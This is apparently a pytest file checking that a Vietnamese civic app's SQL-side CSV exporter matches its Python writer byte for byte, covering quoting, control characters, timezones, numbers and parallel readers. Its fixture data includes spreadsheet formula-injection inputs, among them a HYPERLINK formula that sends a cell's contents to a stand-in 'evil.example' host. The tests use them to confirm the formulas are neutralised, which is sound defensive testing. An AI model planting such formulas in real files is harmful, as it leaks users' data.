"""The CSV written by the database (dankheo.spreadsheets_sql) is byte for byte the
file the Python writer (spreadsheets.csv_chunks over exports.export_rows) writes,
whatever the cells hold: formula prefixes, control characters, every Vietnamese
mark, quotes and line breaks, empty cells, timestamps around local midnight, dates,
whole and fractional numbers."""

from __future__ import annotations

import csv
import io
import multiprocessing
import tempfile
import threading
import unicodedata
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, insert, select, update

from dankheo import csv_export, spreadsheets, spreadsheets_sql
from dankheo.appraisal.models import Commendation
from dankheo.registry.models import Exemplar
from dankheo.showcase import exports, opendata
from dankheo.showcase.listing import Filters, count_public
from dankheo.showcase.search import public_condition as search_public

MARKS = (
    "àáảãạ ăằắẳẵặ âầấẩẫậ đ èéẻẽẹ êềếểễệ ìíỉĩị òóỏõọ ôồốổỗộ ơờớởỡợ ùúủũụ ưừứửữự ỳýỷỹỵ"
)
TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+84 912 345 678",
    "-5",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "\x07=1+2",
    "\x1f\x0b-x",
    "\ufffe=x",
    "Chuông\x07 báo\ufffe\uffff",
    " =not a formula",
    "",
    "x",
    'Câu "trích dẫn", có dấu phẩy',
    "Dòng một\nDòng hai\r\nDòng ba",
    "a,b",
    '"',
    MARKS,
    MARKS.upper(),
    unicodedata.normalize("NFD", MARKS),
    "Ấp 3, xã Tân Phú Đông 🙂",
    "\x7f\ue000 private",
    "🙂 đầu dòng",
    "1 bắt đầu bằng số",
]
UTC_TIMES = [
    datetime(2026, 1, 1, 17, 0, tzinfo=UTC),  # local midnight
    datetime(2026, 1, 1, 17, 0, 0, 900000, tzinfo=UTC),  # still midnight (seconds)
    datetime(2026, 1, 1, 16, 59, 59, 999999, tzinfo=UTC),
    datetime(2026, 1, 1, 17, 0, 59, tzinfo=UTC),
    datetime(2026, 1, 1, 0, 0, tzinfo=UTC),  # UTC midnight: 07:00 local
    datetime(2025, 12, 31, 23, 30, tzinfo=UTC),
    datetime(1975, 6, 12, 17, 0, tzinfo=UTC),  # the zone's offset changed here
    datetime(1960, 3, 3, 16, 0, tzinfo=UTC),
    datetime(2199, 12, 31, 17, 0, tzinfo=UTC),
    datetime(2026, 3, 9, 2, 7, 30, tzinfo=UTC),  # 09:07 local
    datetime(2024, 2, 29, 9, 59, 59, 999999, tzinfo=UTC),
    datetime(2026, 12, 31, 16, 0, tzinfo=UTC),  # 23:00 local
    None,
]
NUMBERS = [
    None,
    0.0,
    -0.0,
    1.5,
    2.0,
    0.1 + 0.2,
    1e-05,
    0.0001,
    123456.789,
    1e15 + 0.5,
    2.0**53,
    1e20,
    1.7976931348623157e308,
    5e-324,
    float("inf"),
]


def _fixture(publish, make, db) -> None:
    campaign = publish.setup()
    commune = make.unit(parent=publish.province, name='=Xã, "Thử"\nNghiệm')
    rows = []
    for i in range(max(len(TEXTS), len(UTC_TIMES), len(NUMBERS)) * 2):
        rows.append(
            {
                "campaign_id": campaign.id,
                "unit_id": (commune if i % 2 else publish.commune).id,
                "name": TEXTS[i % len(TEXTS)] or "x",
                "address": TEXTS[(i * 7 + 3) % len(TEXTS)],
                # A link that needs quotes too.
                "slug": f'mo-hinh-{i},"x"' if i % 5 == 0 else f"mo-hinh-{i}",
                "search_text": "",
                "state": ("recommended", "commended", "replicated")[i % 3],
                "kind": ("model", "individual", "collective")[i % 3],
                "published_at": UTC_TIMES[i % len(UTC_TIMES)],
                "households": (None, 0, 7, 2**31 - 1)[i % 4],
                "money_million": NUMBERS[i % len(NUMBERS)],
                "land_m2": NUMBERS[(i * 5 + 1) % len(NUMBERS)],
                "road_km": NUMBERS[(i * 3 + 2) % len(NUMBERS)],
                "trees": i,
            }
        )
    db.session.execute(insert(Exemplar), rows)
    # Commendations: decision numbers and dates too.
    for n, text in enumerate(["=1/QĐ", "12/QĐ-UBND, ngày", "\x01@x"]):
        e = publish("commended")
        db.session.execute(
            update(Commendation)
            .where(Commendation.exemplar_id == e.id)
            .values(decision_number=text, decision_date=date(1999 + n, 12, 31))
        )
    db.session.commit()


def _python_file(f: Filters, by_id: bool) -> bytes:
    rows = exports.export_rows(f, by_id=by_id)
    return "".join(spreadsheets.csv_chunks(exports.export_header(), rows)).encode()


@pytest.mark.parametrize("by_id", [True, False])
@pytest.mark.parametrize("lang", ["vi", "en"])
@pytest.mark.parametrize("batch", [200, 1])  # 1: rows that need no quotes alone
def test_the_database_writes_the_python_writers_bytes(
    app, publish, make, db, by_id, lang, batch, monkeypatch
):
    monkeypatch.setattr(spreadsheets_sql, "BATCH", batch)
    _fixture(publish, make, db)
    with app.test_request_context(f"/?lang={lang}"):
        files = {}
        for f in (Filters(), Filters(kind="individual")):
            expected = files[f] = _python_file(f, by_id)
            written = exports.export_csv(f, by_id=by_id)
            data = b"".join(written)
            assert _table(data) == _table(expected)  # a readable difference first
            assert data == expected
            assert written.rows == len(_table(expected)) - 1 > 0
    # The cases are in the file: formulas neutralised, controls gone, zone applied.
    table = _table(files[Filters()])
    cells = {c for row in table for c in row}
    assert "'=1+2" in cells and "'-x" in cells and "'=x" in cells
    assert not any(ch in c for c in cells for ch in spreadsheets_sql.NOT_XML)


def _table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_midnight_and_zone_cases_are_written_as_local_times(app, publish, make, db):
    _fixture(publish, make, db)
    with app.test_request_context("/"):
        table = _table(b"".join(exports.export_csv(Filters(), by_id=True)))
    published = {row[9] for row in table[1:]}
    assert {"2026-01-02", "2026-01-01 23:59", "2026-01-02 00:00"} <= published
    assert "2026-01-01 07:00" in published
    tz = ZoneInfo("Asia/Ho_Chi_Minh")  # before 1975 the zone's offset was another
    for when in UTC_TIMES[6:9]:
        local = when.astimezone(tz)
        assert (
            local.strftime(
                "%Y-%m-%d" if local.hour == local.minute == 0 else "%Y-%m-%d %H:%M"
            )
            in published
        )
    numbers = {row[14] for row in table[1:]} | {row[15] for row in table[1:]}
    assert {
        "0",
        "1.5",
        "2",
        "0.30000000000000004",
        "1e-05",
        "100000000000000000000",
    } <= numbers
    assert "1000000000000000.5" in numbers and "" in numbers


@pytest.mark.parametrize(
    "zone",
    ["Asia/Tokyo", "Asia/Kolkata", "America/Sao_Paulo", "UTC", "Pacific/Kiritimati"],
)
def test_every_zone_gets_the_python_writers_times(app, publish, make, db, zone):
    """The zone's offset as SQLite applies it, whatever it is: whole hours ahead of
    UTC, half hours, behind UTC, none, 14 hours."""
    _fixture(publish, make, db)
    app.config["BABEL_DEFAULT_TIMEZONE"] = zone
    spreadsheets_sql.fixed_offset_span.cache_clear()
    with app.test_request_context("/"):
        data = b"".join(exports.export_csv(Filters(), by_id=True))
        assert data == _python_file(Filters(), True)


@pytest.mark.parametrize("readers", [1, 2, 3, 500])
def test_the_full_file_written_by_several_readers_is_the_same_file(
    app, publish, make, db, readers, monkeypatch
):
    """Each reader writes a range of codes; joined in order they make the bytes of
    the file one reader writes (and the Python writer's), header once, every row
    once, with more readers than rows too."""
    app.config["OPEN_DATA_CSV_READERS"] = readers
    monkeypatch.setattr(opendata, "READER_ROWS", 1)
    with app.test_request_context("/"):
        empty = io.BytesIO()
        assert opendata.write_csv(empty) == 0
        assert empty.getvalue() == _python_file(Filters(), True)
    _fixture(publish, make, db)
    with app.test_request_context("/"):
        out = io.BytesIO()
        rows = opendata.write_csv(out)
        expected = _python_file(Filters(), True)
        assert out.getvalue() == expected
        assert rows == len(_table(expected)) - 1 > 20
        if readers > 1:
            entries = count_public(Filters())
            assert len(exports.full_csv_parts(readers)) == min(readers, entries)


def test_a_reader_is_started_only_for_enough_rows(app, publish, make, db):
    """Starting a reader costs up to a second: a small file is written by
    this process alone, a larger one by as many readers as it has rows for."""
    _fixture(publish, make, db)
    with app.test_request_context("/"):
        entries = count_public(Filters())
        assert len(exports.full_csv_parts(4, min_rows=entries + 1)) == 1
        assert len(exports.full_csv_parts(4, min_rows=entries // 2)) == 2
        assert len(exports.full_csv_parts(4)) == 4


def test_a_part_that_fails_fails_the_file_and_leaves_nothing_behind(
    app, publish, make, db, monkeypatch, tmp_path
):
    """A reader in another process that fails fails the whole file (the build keeps
    the files it had), saying why, and its scratch folder goes with it."""
    _fixture(publish, make, db)
    app.config["OPEN_DATA_CSV_READERS"] = 2
    monkeypatch.setattr(opendata, "READER_ROWS", 1)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    query = csv_export.CsvExport.query

    def broken(self):
        found = query(self)
        if found.header is None:  # the reader's part
            found.sql = found.sql.replace("FROM", "FROM missing_table,", 1)
        return found

    monkeypatch.setattr(csv_export.CsvExport, "query", broken)
    with app.test_request_context("/"), pytest.raises(RuntimeError, match="missing"):
        opendata.write_csv(io.BytesIO())
    assert list(tmp_path.iterdir()) == []


def test_readers_are_started_from_a_process_running_threads(
    app, publish, make, db, monkeypatch
):
    """The job consumer runs threads: its builds are written by several readers
    too (each a new interpreter, which no lock held at a fork can block)."""
    _fixture(publish, make, db)
    app.config["OPEN_DATA_CSV_READERS"] = 3
    monkeypatch.setattr(opendata, "READER_ROWS", 1)
    started = []
    spawn = multiprocessing.get_context("spawn")
    process = spawn.Process

    def counted(*args, **kwargs):
        started.append(kwargs.get("args"))
        return process(*args, **kwargs)

    monkeypatch.setattr(spawn, "Process", counted)
    monkeypatch.setattr(multiprocessing, "get_context", lambda method: spawn)
    written: dict[str, bytes] = {}
    busy = threading.Event()

    failed: list[BaseException] = []

    def build():
        try:
            with app.test_request_context("/"):
                out = io.BytesIO()
                opendata.write_csv(out)
                written["file"] = out.getvalue()
        except BaseException as exc:  # raised again below, in the test's thread
            failed.append(exc)
        finally:
            busy.set()

    other = threading.Thread(target=busy.wait, daemon=True)
    other.start()
    worker = threading.Thread(target=build)
    worker.start()
    worker.join(timeout=120)
    busy.set()
    if failed:
        raise failed[0]
    expected_readers = 1 if app.config["SQLALCHEMY_DATABASE_URI"] == "sqlite://" else 3
    assert len(started) == expected_readers - 1
    with app.test_request_context("/"):
        assert written["file"] == _python_file(Filters(), True)


def test_a_query_hands_the_driver_each_value_as_its_type_does(app, publish, make, db):
    """A reader in another process runs the statement's text with its values: an
    aware moment reaches the driver as the column stores it (SQLite keeps UTC text
    with microseconds), so the rows published up to a row's own moment include it."""
    _fixture(publish, make, db)
    moment = UTC_TIMES[0]
    with app.test_request_context("/"):
        expected = db.session.scalar(
            select(func.count())
            .select_from(Exemplar)
            .where(search_public(), Exemplar.published_at <= moment)
        )
        at_moment = db.session.scalar(
            select(func.count()).where(Exemplar.published_at == moment)
        )
        part = exports.export_csv(Filters(), by_id=True).part(
            Exemplar.published_at <= moment
        )
        query = part.query()
        engine = csv_export.Database.of(db.engine, app.config).engine()
        try:
            data = b"".join(query.run(engine))
        finally:
            engine.dispose()
    assert at_moment > 0 and query.rows == expected == len(_table(data))


def test_the_sql_rules_come_from_the_python_ones():
    """The characters dropped and the formula starts are the writer's own."""
    dropped = {
        chr(i)
        for i in range(0x10000)
        if not 0xD800 <= i < 0xE000 and spreadsheets._NOT_XML.match(chr(i))
    }
    assert dropped - {"\x00"} == set(spreadsheets_sql.NOT_XML)
    glob = set(spreadsheets_sql._FORMULA_GLOB)
    assert glob == {c for c in (*spreadsheets.FORMULA_START, *dropped) if c >= " "}


def test_the_fixed_offset_span_is_where_the_zone_keeps_its_offset():
    offset, since, until = spreadsheets_sql.fixed_offset_span("Asia/Ho_Chi_Minh")
    assert offset == 7 * 3600
    start = datetime.fromisoformat(since).replace(tzinfo=UTC)
    tz = ZoneInfo("Asia/Ho_Chi_Minh")
    assert start.astimezone(tz).utcoffset() == timedelta(hours=7)
    assert (start - timedelta(seconds=1)).astimezone(tz).utcoffset() != timedelta(
        hours=7
    )
    assert until > datetime.now(UTC).strftime("%Y")


@pytest.mark.parametrize(
    "cells",
    [
        ["a", "b", "c"],
        ["a,b", "", 'say "hi"', "x"],
        ['"', ",", "\r", "\n", "\r\n"],
        ["", "", "Dòng một\nDòng hai"],
        ["đầu, cuối", "giữa", 'cuối "x"'],
    ],
)
def test_the_quoting_of_a_line_is_the_csv_modules(cells):
    buf = io.StringIO()
    csv.writer(buf).writerow(cells)
    line = spreadsheets_sql.SEP.join(c.encode() for c in cells)
    quoted = spreadsheets_sql.csv_quoted(line).replace(spreadsheets_sql.SEP, b",")
    assert quoted + b"\r\n" == buf.getvalue().encode()


def test_a_prefix_is_written_as_the_python_writer_writes_it(app, publish, make, db):
    """A link's address goes into SQLite's format string: its "%" and its quoting
    characters come out as the Python writer writes them."""
    _fixture(publish, make, db)
    cols = [
        spreadsheets_sql.Column(
            (Exemplar.id, "-", Exemplar.slug), prefix="http://x/50%d,a/"
        ),
        spreadsheets_sql.Column(Exemplar.slug, prefix='%s "'),
    ]
    stmt = select(Exemplar.id, Exemplar.slug).order_by(Exemplar.id)
    with app.test_request_context("/"):
        rows = [
            [f"http://x/50%d,a/{ident}-{slug}", f'%s "{slug}']
            for ident, slug in db.session.execute(stmt)
        ]
        expected = "".join(spreadsheets.csv_chunks(["a", "b"], rows)).encode()
        written = csv_export.CsvExport(db.engine, ["a", "b"], stmt, cols)
        assert b"".join(written) == expected


@pytest.mark.parametrize("name", ["Một\rhai", "Một\nhai", 'Một "hai"', "Một, hai"])
def test_a_row_whose_only_quoting_character_is_one_of_them(
    app, publish, db, name, monkeypatch
):
    """Each row its own batch: the one quoting character a row holds is seen."""
    monkeypatch.setattr(spreadsheets_sql, "BATCH", 1)
    publish("recommended", name="Mô hình sạch")
    publish("recommended", name=name)
    db.session.commit()
    with app.test_request_context("/"):
        expected = _python_file(Filters(), True)
        assert b"".join(exports.export_csv(Filters(), by_id=True)) == expected
